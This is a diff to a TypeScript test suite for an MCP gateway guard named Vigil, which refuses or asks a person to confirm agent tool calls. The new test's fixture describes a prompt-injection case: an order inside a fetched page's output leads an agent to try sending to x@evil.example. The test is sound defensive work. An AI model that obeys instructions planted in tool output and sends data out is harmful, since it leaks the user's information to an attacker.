@@ -46,7 +46,7 @@ function harness(verdict: Verdict = { outcome: "allow" }, decided = true, option
   ]);
   const logged: string[] = [];
   ports.log = (m) => void logged.push(m);
-  return { guard, published, listings, waits, logged };
+  return { guard, published, listings, waits, logged, ports };
 }
 
 const never = new AbortController().signal;
@@ -94,6 +94,39 @@ describe("MCP guard", () => {
       forward: false,
       result: { isError: true, content: [{ type: "text", text: "Vigil held this call to send: capability send removed. It was not run." }] },
     });
+  });
+
+  it("says why in Vigil's sentence when the gateway knows it: in the refusal and in the question to the person", async () => {
+    const why =
+      "Agent agent-1 tried send, sending to x@evil.example, which only an order inside the output of fetch_page named; the goal asked: “Summarise the page”.";
+    const denied = harness({ outcome: "deny", reason: "capability send removed" });
+    const asked: string[] = [];
+    const refusal = await createMcpGuard(
+      { mode: "enforce", holdMs: 100, failMode: "closed", sessionId: "mcp-s1", agent: { id: "agent-1" }, principal: { id: "alice" }, server: "web" },
+      {
+        ...denied.ports,
+        why: async (sessionId) => (asked.push(sessionId), why),
+      },
+    ).call(call("send", { to: "x@evil.example" }), undefined, never);
+    expect(refusal).toEqual({
+      forward: false,
+      result: { isError: true, content: [{ type: "text", text: `Vigil held this call to send: capability send removed. It was not run. Why: ${why}` }] },
+    });
+    expect(asked).toEqual(["mcp-s1"]);
+    const questions: string[] = [];
+    const stepUp = harness({ outcome: "step_up", reason: "step-up authentication required" });
+    const declined = await createMcpGuard(
+      { mode: "enforce", holdMs: 100, failMode: "closed", sessionId: "mcp-s1", agent: { id: "agent-1" }, principal: { id: "alice" }, server: "web" },
+      { ...stepUp.ports, why: async () => why },
+    ).call(call("send"), async (q) => (questions.push(q), "decline"), never);
+    expect(questions).toEqual([`Vigil asks you to confirm before the agent calls send (step-up authentication required). Why: ${why} Accept to let it run.`]);
+    expect(JSON.stringify(declined)).toContain(`the person asked did not confirm. It was not run. Why: ${why}`);
+    // A gateway that cannot tell (or whose lookup fails) still refuses, with the verdict's reason.
+    const failing = await createMcpGuard(
+      { mode: "enforce", holdMs: 100, failMode: "closed", sessionId: "mcp-s1", agent: { id: "agent-1" }, principal: { id: "alice" }, server: "web" },
+      { ...denied.ports, why: () => Promise.reject(new Error("lookup failed")) },
+    ).call(call("send"), undefined, never);
+    expect(JSON.stringify(failing)).toContain('capability send removed. It was not run."');
   });
 
   it("fails closed when no decision comes in time (or open, when configured)", async () => {
